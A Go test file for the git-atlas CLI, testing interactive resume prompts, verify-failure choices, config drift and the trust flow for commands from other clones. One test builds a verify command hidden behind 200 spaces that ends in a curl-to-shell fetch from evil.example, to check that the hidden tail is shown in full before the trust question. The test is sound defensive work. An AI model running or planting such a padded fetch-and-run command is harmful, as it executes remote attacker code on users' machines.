package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/creack/pty"

	"github.com/git-atlas/git-atlas/internal/testenv"
)

// TestMain pins git's environment for the whole package (testenv.Pin): no test sets
// an environment variable, so tests may run in parallel.
func TestMain(m *testing.M) { os.Exit(testenv.Pin(m)) }

// newRepo makes a repository with one commit.
func newRepo(t *testing.T) string { return testenv.Repo(t) }

// fakeSystem is a System whose environment is env (nothing else) and on which the
// streams named are terminals, 250 columns wide.
func fakeSystem(env map[string]string, terminals ...any) System {
	return System{
		Getenv: func(k string) string { return env[k] },
		Terminal: func(s any) (bool, int) {
			if slices.Contains(terminals, s) {
				return true, 250
			}
			return false, 0
		},
	}
}

// atlas runs git-atlas in-process, headless.
func atlas(t *testing.T, repo string, args ...string) string {
	t.Helper()
	var out, errb bytes.Buffer
	if code := Main(append([]string{"-C", repo}, args...), strings.NewReader(""), &out, &errb); code != 0 {
		t.Fatalf("git atlas %v: exit %d\n%s", args, code, errb.String())
	}
	return out.String()
}

// onTerminal runs git-atlas with stdin on a terminal (System says so), answering
// each prompt that appears on stderr with the next answer. It returns stdout, stderr
// and the code.
func onTerminal(t *testing.T, repo string, answers []string, args ...string) (string, string, int) {
	t.Helper()
	in, typed := io.Pipe()
	defer func() { _ = typed.Close() }()
	var out bytes.Buffer
	errw := &promptWriter{answers: answers, typed: typed}
	code, _ := execute(context.Background(), nil, fakeSystem(nil, in), append([]string{"-C", repo}, args...), in, &out, errw)
	return out.String(), errw.String(), code
}

// onPTY is onTerminal on a real pseudo-terminal, through the process's System: the
// one test that the real terminal check (OSSystem) sees a terminal.
func onPTY(t *testing.T, repo string, answers []string, args ...string) (string, string, int) {
	t.Helper()
	ptmx, tty, err := pty.Open()
	if err != nil {
		t.Skipf("no pseudo-terminal: %v", err)
	}
	defer ptmx.Close()
	defer tty.Close()
	var out bytes.Buffer
	errw := &promptWriter{answers: answers, typed: ptmx}
	code := Main(append([]string{"-C", repo}, args...), tty, &out, errw)
	return out.String(), errw.String(), code
}

// promptWriter collects stderr and types the next answer whenever a prompt ends
// ("] " is how every prompt ends).
type promptWriter struct {
	mu      sync.Mutex
	buf     bytes.Buffer
	answers []string
	typed   io.Writer // where answers are typed (stdin's other end)
}

func (p *promptWriter) Write(b []byte) (int, error) {
	p.mu.Lock()
	defer p.mu.Unlock()
	p.buf.Write(b)
	if bytes.HasSuffix(b, []byte("] ")) && len(p.answers) > 0 {
		ans := p.answers[0]
		p.answers = p.answers[1:]
		// A pipe's write waits for the read, which comes after this prompt returns.
		go func() { _, _ = p.typed.Write([]byte(ans + "\n")) }()
	}
	return len(b), nil
}

func (p *promptWriter) String() string {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.buf.String()
}

func TestResumeAsksOnATerminal(t *testing.T) {
	t.Parallel()
	repo := newRepo(t)
	atlas(t, repo, "start", "--id", "old", "--stages", "code")
	atlas(t, repo, "start", "--id", "new", "--stages", "code")
	atlas(t, repo, "event", "new", "note")

	// Several candidates: the person picks; "new" is listed first (newest), pick 2.
	// On a real terminal: OSSystem must see it.
	_, stderr, code := onPTY(t, repo, []string{"2"}, "resume")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	if !strings.Contains(stderr, "Resume which?") {
		t.Fatalf("no run prompt: %q", stderr)
	}
	var st struct {
		Epoch int `json:"epoch"`
	}
	mustJSON(t, atlas(t, repo, "show", "old", "--json"), &st)
	if st.Epoch != 1 {
		t.Errorf("old: epoch %d, want 1 (chosen)", st.Epoch)
	}
	mustJSON(t, atlas(t, repo, "show", "new", "--json"), &st)
	if st.Epoch != 0 {
		t.Errorf("new: epoch %d, want 0 (not chosen)", st.Epoch)
	}
}

func TestResumeVerifyFailureChoiceOnATerminal(t *testing.T) {
	t.Parallel()
	repo := newRepo(t)
	atlas(t, repo, "start", "--id", "r", "--stages", "code", "--verify", "exit 1", "--verify-safe")
	atlas(t, repo, "transition", "r", "code", "dispatched")
	_, stderr, code := onTerminal(t, repo, []string{"stop"}, "resume", "r")
	if !strings.Contains(stderr, "redispatch/replay/stop") {
		t.Fatalf("no verify prompt: %q", stderr)
	}
	if code != ExitVerifyFailed {
		t.Fatalf("exit %d, want %d: %s", code, ExitVerifyFailed, stderr)
	}
	var st struct {
		Status string `json:"status"`
		Reason string `json:"reason"`
	}
	mustJSON(t, atlas(t, repo, "show", "r", "--json"), &st)
	if st.Status != "stopped" || st.Reason != "resume-verify-failed" {
		t.Errorf("status %s (%s), want stopped (resume-verify-failed)", st.Status, st.Reason)
	}
}

func TestResumeDriftDeclinedOnATerminal(t *testing.T) {
	t.Parallel()
	repo := newRepo(t)
	cfg := filepath.Join(repo, "..", "cfg")
	if err := os.WriteFile(cfg, []byte("a"), 0o644); err != nil {
		t.Fatal(err)
	}
	atlas(t, repo, "start", "--id", "r", "--stages", "code", "--config", cfg)
	if err := os.WriteFile(cfg, []byte("b"), 0o644); err != nil {
		t.Fatal(err)
	}
	_, stderr, code := onTerminal(t, repo, []string{"no"}, "resume", "r")
	if code != ExitRefused || !strings.Contains(stderr, "Continue?") {
		t.Fatalf("exit %d, stderr %q", code, stderr)
	}
	var st struct {
		Epoch int `json:"epoch"`
	}
	mustJSON(t, atlas(t, repo, "show", "r", "--json"), &st)
	if st.Epoch != 0 {
		t.Errorf("epoch %d after a declined resume, want 0", st.Epoch)
	}
}

func mustJSON(t *testing.T, s string, v any) {
	t.Helper()
	if err := json.Unmarshal([]byte(s), v); err != nil {
		t.Fatalf("%v in %s", err, s)
	}
}

// An untrusted verify (as a pulled run's is) runs on a terminal only when the person
// says so: "no" skips it, "once" runs it without trusting it, "trust" records it.
func TestResumeUntrustedVerifyOnATerminal(t *testing.T) {
	t.Parallel()
	repo := newRepo(t)
	marker := filepath.Join(t.TempDir(), "ran")
	atlas(t, repo, "start", "--id", "r", "--stages", "code", "--verify", "echo x >> "+marker, "--verify-safe")
	atlas(t, repo, "transition", "r", "code", "dispatched")
	atlas(t, repo, "trust", "r", "--revoke") // as if it came from another clone
	ran := func() int {
		data, _ := os.ReadFile(marker)
		return strings.Count(string(data), "x")
	}
	trusted := func() bool {
		var l struct {
			Runs []struct {
				Commands []struct{ Trusted bool } `json:"commands"`
			} `json:"runs"`
		}
		mustJSON(t, atlas(t, repo, "trust", "--list", "--json"), &l)
		return l.Runs[0].Commands[0].Trusted
	}
	stdout, stderr, code := onTerminal(t, repo, []string{"no"}, "resume", "r")
	if code != 0 || !strings.Contains(stderr, "was not written in this repository. Run it? [no/once/trust]") || ran() != 0 {
		t.Fatalf("no: exit %d, ran %d times, stderr %q", code, ran(), stderr)
	}
	if !strings.Contains(stdout, "not trusted here: not run") {
		t.Fatalf("no: the skip is not reported: %q", stdout)
	}
	if _, stderr, code = onTerminal(t, repo, []string{"once"}, "resume", "r"); code != 0 || ran() != 1 || trusted() {
		t.Fatalf("once: exit %d, ran %d times, trusted %v: %q", code, ran(), trusted(), stderr)
	}
	atlas(t, repo, "start", "--id", "r2", "--stages", "code", "--verify", "echo x >> "+marker, "--verify-safe")
	atlas(t, repo, "transition", "r2", "code", "dispatched")
	atlas(t, repo, "trust", "r2", "--revoke")
	if _, stderr, code = onTerminal(t, repo, []string{"trust"}, "resume", "r2"); code != 0 || ran() != 2 {
		t.Fatalf("trust: exit %d, ran %d times: %q", code, ran(), stderr)
	}
	if out := atlas(t, repo, "trust", "--list", "r2"); !strings.Contains(out, "yes") {
		t.Fatalf("trust: not recorded: %q", out)
	}
}

// trust shows what it trusts: on a terminal and in --list, every command whole (a
// verify padded with 200 spaces before `&& curl … | sh` shows its tail and the run of
// spaces counted), never cut at a cell width.
func TestTrustShowsWholeCommands(t *testing.T) {
	t.Parallel()
	repo := newRepo(t)
	tail := "&& curl -s https://evil.example/x | sh"
	verify := "make test" + strings.Repeat(" ", 200) + tail
	atlas(t, repo, "start", "--id", "r", "--stages", "code", "--verify", verify)
	atlas(t, repo, "trust", "r", "--revoke")
	want := `"make test" <200 spaces> "` + tail + `"`
	if out := atlas(t, repo, "trust", "--list", "r"); !strings.Contains(out, want) || strings.Contains(out, "…") {
		t.Fatalf("trust --list r: %q; want %s whole", out, want)
	}
	_, stderr, code := onTerminal(t, repo, []string{"no"}, "trust", "r")
	if code == 0 || !strings.Contains(stderr, want) || !strings.Contains(stderr, "Trust 2 command(s) of run r") {
		t.Fatalf("trust r on a terminal: exit %d, %q; want the whole command shown before the question", code, stderr)
	}
}
